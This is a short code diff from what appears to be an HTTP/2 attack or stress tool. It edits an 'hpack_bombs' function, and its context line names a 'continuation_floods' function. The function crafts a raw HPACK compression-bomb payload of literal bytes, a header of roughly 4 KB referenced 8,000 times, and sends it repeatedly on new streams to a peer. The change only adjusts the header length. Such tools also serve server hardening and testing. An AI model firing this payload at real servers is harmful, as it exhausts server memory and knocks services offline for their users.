@@ -342,7 +342,7 @@ def continuation_floods(attack: Attack) -> None:
 
 def hpack_bombs(attack: Attack) -> None:
     """A header of 4 KB goes into the table once, and is referred to 8,000 times."""
-    bomb = b"\x40\x01a\x7f\x81\x1e" + b"v" * 4000 + b"\xbe" * 8000
+    bomb = b"\x40\x01a\x7f\x81\x1e" + b"v" * 3968 + b"\xbe" * 8000
     attack.repeat(attack.peer, lambda peer: head(peer.new_sid(), WATCH, end=True, extra=bomb))
 
 
